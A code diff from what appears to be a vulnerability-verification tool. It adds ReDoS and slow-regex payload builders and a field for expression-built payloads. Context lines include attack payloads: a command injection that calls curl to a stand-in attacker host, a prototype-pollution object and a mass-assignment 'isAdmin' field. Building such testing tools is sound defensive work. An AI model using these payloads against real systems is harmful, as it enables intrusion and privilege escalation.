@@ -21,6 +21,8 @@ export interface Payload {
   outcome: 'supports' | 'weakens' | 'refutes';
   /** The value is JSON and belongs unquoted into a JSON body. */
   isJson?: boolean;
+  /** The value is too long to be shown or holds what cannot be: this JavaScript expression builds it. */
+  expression?: string;
   /** For query strings: how the operator form is spelled, for example `[$ne]`. */
   querySuffix?: string;
 }
@@ -201,6 +203,15 @@ const workflow: Fitting = (context, candidate) => {
     : supports(`${end}; curl https://attacker.example/ #`, inside);
 };
 
+/** The checker of regular expressions has made the text already. */
+const regex: Fitting = (context, { details }) => {
+  const attack = { value: '', expression: details.attack ?? "''" };
+  // Fixed text before it may already fail to match, and then nothing is tried.
+  return context !== null && context.before !== ''
+    ? { ...weakens('', 'after fixed text of what the regular expression is matched against'), ...attack }
+    : { ...supports('', 'as the text that the regular expression is matched against'), ...attack };
+};
+
 const fixed =
   (value: string, where: string, extra: Partial<Payload> = {}): Fitting =>
   () => ({ ...supports(value, where), ...extra });
@@ -233,6 +244,8 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
     isJson: true,
   }),
+  redos: regex,
+  'slow-regex': regex,
   'mass-assignment': fixed('{"isAdmin":true}', 'as fields of the object', { isJson: true }),
 };
 
